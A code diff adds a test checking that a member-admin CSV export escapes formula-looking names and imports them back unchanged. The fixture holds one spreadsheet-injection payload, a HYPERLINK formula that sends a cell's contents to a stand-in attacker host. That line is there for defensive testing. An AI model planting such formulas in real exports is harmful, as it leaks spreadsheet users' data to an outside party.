@@ -208,6 +208,23 @@ describeEachDatabase('member admin', (getDb) => {
     expect(records(exported)).toHaveLength(1501);
   });
 
+  it('exports a formula-looking name as text a spreadsheet will not run, and imports it back as it was', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
+    await add('mallory@example.org', formula, ['@vip']);
+    await add('ann@example.org', '-Ann');
+    let exported = '';
+    for await (const chunk of ctx.services.memberAdmin.exportCsv()) exported += chunk;
+    const cells = parseCsv(exported).slice(1).flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain("'-Ann");
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+
+    await getDb().truncate();
+    await ctx.services.memberAdmin.importCsv(exported);
+    const names = (await ctx.services.memberAdmin.list({})).items.map((m) => m.name).sort();
+    expect(names).toEqual(['-Ann', formula]);
+  });
+
   it('refuses a file without an email column or with a broken quote', async () => {
     await expect(ctx.services.memberAdmin.importCsv('name\nAnn\n')).rejects.toMatchObject({
       status: 400,
